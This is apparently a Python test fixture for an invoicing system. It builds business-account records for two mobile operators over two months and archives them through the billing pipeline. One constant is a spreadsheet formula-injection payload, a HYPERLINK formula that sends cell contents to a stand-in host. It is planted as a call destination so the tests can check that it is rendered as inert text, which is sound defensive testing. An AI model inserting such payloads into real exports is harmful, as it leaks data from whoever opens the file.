"""Business accounts for the detailed-bill and fleet-manager tests.

``oi`` business account ``9000000001`` (contact phone ``+5521955550000``; lines
``+5521955550001`` and ``+5521955550002``): oi keeps lines out (``line_access`` none).
``norrsken`` business account ``NS-0000007`` (contact ``+46701110000``; lines
``+46701110001`` and ``+46701110002``): norrsken sends summary invoices and lets a line's
phone see its own line (``templates/brands/norrsken/brand.toml``). Two months each,
rendered, archived and recorded through ``pipeline.process_record`` (with the page's
address for the summary sentence, as ``backends.services`` passes it).
"""

from __future__ import annotations

import copy
import json

from invoicer.delivery.archive import Archive
from invoicer.ledger import Ledger
from invoicer.pipeline import Services, process_record
from invoicer.renderer import RenderOptions
from tests.api.world import record

PAGE = "https://invoices.example.net/access"
OI_BUSINESS = ("oi", "9000000001", "+5521955550000",
               ("+5521955550001", "+5521955550002"))
NORRSKEN = ("norrsken", "NS-0000007", "+46701110000", ("+46701110001", "+46701110002"))
MANAGER = "+5521966660001"
NORRSKEN_MANAGER = "+46709990001"
#: A destination a spreadsheet would run as a formula: it must arrive as text.
HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


def business_record(operator: str, account: str, contact: str, lines: tuple[str, ...],
                    number: str, year: int, month: int) -> dict:
    """The spec's example as a business account of ``lines`` (the first carries the
    charges; every line has its own calls, the second one a hostile destination)."""
    rec = record(operator, account, contact, number, year, month)
    rec["account"]["segment"] = "business"
    if operator == "norrsken":
        rec["operator"]["name"] = "Norrsken Mobil AB"
        rec["operator"]["support"] = {"phone": "+46 771 00 00 00",
                                      "web": "https://www.norrsken.example/hjalp"}
    first = rec["services"][0]
    services = []
    for i, line in enumerate(lines):
        service = copy.deepcopy(first)
        service["id"] = line
        service["label"] = f"Frota — linha {i + 1}"
        if i:
            service["charges"] = []
            service["usage"] = [dict(u, destination=HOSTILE if j == 0 else u["destination"])
                                for j, u in enumerate(first["usage"][: i + 1])]
        services.append(service)
    rec["services"] = services
    return rec


def populate_business(ledger: Ledger, archive: Archive) -> dict[str, list[str]]:
    """Archive the business world; returns the invoice numbers per operator, newest
    first."""
    run = ledger.runs.start("fleet-world")
    services = Services(ledger=ledger, archive=archive,
                        options=RenderOptions(self_service_url=PAGE))
    numbers: dict[str, list[str]] = {}
    line = 0
    for operator, account, contact, phones in (OI_BUSINESS, NORRSKEN):
        prefix = "OB" if operator == "oi" else "NS"
        for month in (10, 11):
            line += 1
            number = f"{prefix}-2026-{month:02d}-0000900"
            raw = json.dumps(business_record(operator, account, contact, phones, number,
                                             2026, month)).encode()
            outcome = process_record(raw, line=line, run_id=run, services=services)
            assert outcome.status == "archived", outcome
            numbers.setdefault(operator, []).insert(0, number)
    ledger.runs.finish(run)
    return numbers
